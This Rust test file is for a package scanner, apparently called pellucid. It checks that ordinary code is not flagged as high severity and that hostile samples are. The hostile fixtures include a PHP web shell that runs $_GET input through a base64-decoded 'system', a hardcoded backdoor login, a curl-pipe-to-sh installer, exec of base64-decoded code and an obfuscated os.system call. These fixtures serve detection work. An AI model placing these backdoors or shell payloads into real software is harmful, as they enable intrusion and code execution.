//! What is worth a reviewer's first look: what ordinary packages do every day is told, and not as high.

use pellucid::model::RelPath;
use pellucid::model::ScanEvidence;
use pellucid::model::scan::Severity;
use pellucid::scan::Options;
use pellucid::scan::SourceFile;
use pellucid::scan::scan_source;

fn scan(path: &str, text: &str) -> ScanEvidence {
    let files = [SourceFile { path: RelPath::from(path), size: text.len() as u64 }];
    scan_source(&files, &|_: &RelPath| Ok(text.as_bytes().to_vec()), &Options::default())
}

fn worst(path: &str, text: &str) -> Option<Severity> {
    scan(path, text).findings.iter().map(|finding| finding.severity).max()
}

#[test]
fn what_ordinary_programs_do_is_not_high() {
    let cases = [
        // A function that came with decoded data is called; no text is.
        (
            "a.py",
            "import base64\n\ndef later(table, raw):\n    step = table.pick(base64.b64decode(raw))\n    return step(raw)\n",
        ),
        ("a.rb", "data = [104, 105].pack('C*')\nputs data\nother = data.unpack('C*')\nputs other.inspect\n"),
        (
            "tests/test_auth.py",
            "def test_parse():\n    auth = parse(header)\n    assert auth.password == \"open sesame\"\n",
        ),
        (
            "tests/server.py",
            "class Server:\n    def check(self, username, password):\n        if username == \"slow\" and password == \"pygmalion7\":\n            return True\n        return False\n",
        ),
        (
            "a.py",
            "import ctypes\n\ndef copy(into, text, length):\n    ctypes.windll.kernel32.RtlMoveMemory(into, text, length)\n",
        ),
        ("urls.json", "{\"input\": \"http://192.0x00A80001\"}\n"),
        (
            "a.c",
            "#include <pwd.h>\nint allowed(const char *name) {\n  struct passwd *pw = getpwnam(name);\n  if (pw == NULL)\n    return 0;\n  return 1;\n}\n",
        ),
        ("a.sh", "#!/bin/sh\ncat key.pub >> $OBJ/authorized_keys_$USER\n"),
        ("b.sh", "#!/bin/sh\nfor key in *.pub; do\n  echo `hostname` `cat $key` | tee -a known\ndone\n"),
        (
            "a.py",
            "import pickle, zlib\n\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.loads(zlib.decompress(f.read()))\n",
        ),
        (
            "a.c",
            "#include <sys/ptrace.h>\nlong peek(int pid, void *at) {\n  return ptrace(PTRACE_PEEKDATA, pid, at, 0);\n}\n",
        ),
        (
            "a.js",
            "const parts = ['a', 'function run(a) {', 'return a}'];\nconst source = parts.join('');\nmodule.exports = new Function(source);\n",
        ),
        (
            "a.js",
            "function set(keys) {\n  const hash = {};\n  for (const key of keys) hash[key] = true;\n  return { contains: (key) => hash[key] === true };\n}\nconst known = set(['constructor', 'valueOf']);\nknown.contains('constructor');\n",
        ),
    ];
    for (path, text) in cases {
        let evidence = scan(path, text);
        let high: Vec<_> =
            evidence.findings.iter().filter(|finding| finding.severity >= Severity::High).collect();
        assert!(high.is_empty(), "{path}: {text}\n{high:#?}");
    }
}

#[test]
fn what_hides_and_runs_is() {
    let cases = [
        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        (
            "a.py",
            "import os\n\ngetattr(os, 'met' [::-1] + 'sys'[::-1])\ngetattr(os, 'metsys'[::-1])('true')\n",
        ),
        (
            "a.py",
            "def login(user, password):\n    if user == 'maint' and password == 'zq!Tr4pd00r':\n        return True\n    return check(user, password)\n",
        ),
        ("a.sh", "#!/bin/sh\ncurl -fsSL https://example.org/install.sh | sh\n"),
        ("a.js", "const at = 'http://0xC0A80001/x';\nfetch(at);\n"),
        ("a.php", "<?php $f = base64_decode('c3lzdGVt'); $f($_GET['a']);\n"),
    ];
    for (path, text) in cases {
        assert!(
            worst(path, text) >= Some(Severity::High),
            "{path}: {text}\n{:#?}",
            scan(path, text).findings
        );
    }
}

#[test]
fn a_script_too_large_for_a_check_says_so() {
    let long = format!("#!/bin/sh\n{}", "echo one two three\n".repeat(12_000));
    let said = |text: &str| {
        scan("a.sh", text).not_examined.iter().filter(|left| left.reason.contains("swerves")).count()
    };
    assert_eq!((said(&long), said("#!/bin/sh\necho one\n")), (1, 0));
}
